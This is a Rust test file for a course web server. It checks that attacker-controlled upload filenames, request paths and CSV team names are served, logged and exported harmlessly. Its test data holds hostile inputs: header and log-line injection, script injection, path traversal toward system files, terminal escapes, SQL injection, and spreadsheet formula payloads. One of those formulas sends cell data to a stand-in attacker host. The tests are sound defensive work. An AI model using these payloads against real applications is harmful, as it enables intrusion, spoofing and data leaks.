//! Names of uploads, downloads, tables and logs, with content of attackers.

use serde_json::json;

use crate::support::{Served, config, list};

/// Names of files, percent-encoded, that headers, logs, terminals, spreadsheets or pages could interpret.
const NAMES: [&str; 12] = [
    "a%22%3B%0D%0ASet-Cookie:%20x=1.py",
    "a%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E.py",
    "..%2F..%2Fetc%2Fpasswd",
    "..%5C..%5Cboot.ini",
    "%1B%5B2J%1B%5D0;title%07.py",
    "%E2%80%AEyp.tnega",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E.py",
    "=cmd%7C'%20/C%20calc'!A0.py",
    "a%0A2026-11-30T00:00:00Z%20%20staff%20%20publish.py",
    "%00.py",
    "'%20OR%201=1%20--.py",
    "%F0%9F%90%A6%252e%252e%252f.py",
];

#[test]
fn file_names_are_shown_and_downloaded_harmlessly() {
    let served = Served::new();
    for name in NAMES {
        let receipt = served.upload("ann", name, b"<html><script>alert(1)</script>");
        assert_eq!(receipt.status, 202, "{name}: {receipt:?}");
        let id = receipt.json()["upload"].as_i64().expect("a number");
        for (method, range) in [("GET", ""), ("GET", "Range: bytes=0-3\r\n"), ("HEAD", "")] {
            let headers = served.headers("staff") + range;
            let path = format!("/course/staff/uploads/{id}/file");
            let file = served.raw(method, &path, &headers, b"");
            assert_eq!((file.status, file.header("content-length")), (200, Some("31")), "{file:?}");
            assert_eq!(file.body.len(), if method == "HEAD" { 0 } else { 31 });
            assert_eq!(file.header("content-type"), Some("application/octet-stream"));
            assert_eq!(file.header("set-cookie"), None);
            let disposition = file.header("content-disposition").expect("a disposition");
            let name = disposition.strip_prefix("attachment; filename*=UTF-8''").expect("an encoded name");
            assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '%'), "{disposition}");
            assert!(!["%2F", "%5C", "%00", "%0A", "%0D", "%1B"].iter().any(|part| name.contains(part)), "{name}");
        }
    }
    let shown: Vec<String> = served.uploads("ann").iter().map(|upload| upload["fileName"].to_string()).collect();
    assert_eq!(shown.len(), NAMES.len());
    assert!(shown.iter().all(|name| !name.contains('/') && !name[1..].contains("\\u") && !name.contains("\\n")));
    let audit = served.get("staff", "/course/staff/audit").json();
    for entry in list(&audit, "entries") {
        let detail = entry["detail"].as_str().expect("a text");
        assert!(!detail.chars().any(game::text::is_hidden), "{detail:?}");
    }
    let log = served.log.lock().expect("no panic").clone();
    assert!(log.iter().all(|line| !line.chars().any(game::text::is_hidden)), "{log:?}");
}

#[test]
fn lines_of_the_log_are_not_forged() {
    let served = Served::new();
    for path in ["/a%0A[2026]%20GET%20/t/x%20303", "/%1B[31mred", "/course/games?before=%0D%0Ax", "/%E2%80%AE"] {
        served.get("", path);
    }
    served.exchange(format!("GET /a\u{85}b\u{202e} HTTP/1.1\r\nHost: {}\r\n\r\n", served.host).as_bytes());
    served
        .exchange(format!("GET /course/about HTTP/1.1\r\nHost: x\x1b[2J\r\nHost: {}\r\n\r\n", served.host).as_bytes());
    let log = served.log.lock().expect("no panic").clone();
    assert!(log.len() >= 4 && log.iter().all(|line| !line.chars().any(game::text::is_hidden)), "{log:?}");
    assert!(log.iter().all(|line| line.starts_with("GET /")), "{log:?}");
}

#[test]
fn no_cell_of_the_grades_is_a_formula() {
    let folder = tempfile::tempdir().expect("a folder");
    let course = config(folder.path(), "");
    let names = ["=HYPERLINK(\"\"http://evil.example.org/\"\"&A1)", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "a;=1"];
    let rows: Vec<String> = names.iter().enumerate().map(|(n, name)| format!("t{n},\"{name}\",\n")).collect();
    std::fs::write(folder.path().join("teams.csv"), format!("id,name,mail\n{}", rows.concat())).expect("written");
    let served = Served::of(folder, course, |_| ());
    assert_eq!(served.act("withdraw", &json!({"team": "t0", "reason": "=1+1"})).status, 200);
    let table = served.get("staff", "/course/staff/grades.csv").body;
    assert_eq!(table.lines().count(), 1 + names.len(), "{table}");
    let cells: Vec<&str> = table.split([',', '\n', '\r']).map(|cell| cell.trim_start_matches('"')).collect();
    assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{table}");
    assert!(table.contains("'=HYPERLINK") && table.contains("withdrawn: =1+1"), "{table}");
}
